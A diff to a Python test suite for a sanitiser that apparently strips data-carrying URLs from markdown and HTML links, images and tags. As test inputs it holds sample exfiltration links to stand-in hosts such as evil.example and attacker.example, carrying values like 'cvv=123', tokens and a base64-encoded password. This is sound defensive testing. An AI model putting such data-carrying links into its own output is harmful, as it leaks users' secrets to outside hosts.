@@ -70,8 +70,8 @@ def test_autolinks_and_raw_html_in_every_form_are_seen() -> None:
     assert stripped(f"Go <{DATA}> now") == "Go https://attacker.example/p now"
     assert stripped(f'<p>hi</p>\n<div><img alt="" src="{DATA}"></div>\n') == "<p>hi</p>\n<div></div>\n"
     assert stripped(f'a <img srcset="/a.png 1x, {DATA} 2x"> b') == "a  b"
-    assert stripped(f"<iframe src='{DATA}'></iframe>") == "</iframe>"
-    assert stripped(f'<a href="{DATA}">x</a>') == "x</a>"
+    assert stripped(f"<iframe src='{DATA}'></iframe>") == "<iframe></iframe>"
+    assert stripped(f'<a href="{DATA}">x</a>') == "<a>x</a>"
     assert stripped(f"[![x]({DATA})](https://docs.python.org/)") == "[[image: x]](https://docs.python.org/)"
 
 
@@ -105,6 +105,18 @@ def test_short_data_in_a_link_is_caught(text: str, expected: str) -> None:
     assert stripped(text) == expected
 
 
+def test_a_name_that_announces_data_with_more_than_a_switch_still_loses_the_url() -> None:
+    for query in ["data=12", "cvv=123", "token=t", "data=TRUE1"]:
+        assert stripped(f"[x](https://evil.example/?{query})") == "x", query
+
+
+def test_html_that_loses_its_url_keeps_balanced_tags() -> None:
+    # An element with an end tag keeps a bare start tag for it; a void element goes whole.
+    text = f'See <A HREF="{DATA}">the <b>report</b></A> and <video poster="{DATA}"><track src="{DATA}"></video>.'
+    assert stripped(text) == "See <a>the <b>report</b></A> and <video></video>."
+    assert stripped(f'<area href="{DATA}"><embed src="{DATA}">') == ""
+
+
 def test_a_short_data_image_scores_as_data() -> None:
     # Every outside image goes (0.8); one that carries data scores 1.0.
     found = exfiltration.scan("![x](https://evil.example/p.png?data=c2VjcmV0cGFzc3dvcmQ)")
@@ -126,6 +138,8 @@ def test_a_short_data_image_scores_as_data() -> None:
         "t=1h2m3s",
         "tab=readme-ov-file",
         "q=deactivate",  # a word whose base64 bytes decode to mixed-script letters
+        "data=1",  # a switch under a name that announces data
+        "token=false&embed=yes",
     ],
 )
 def test_ordinary_query_links_are_kept(query: str) -> None:
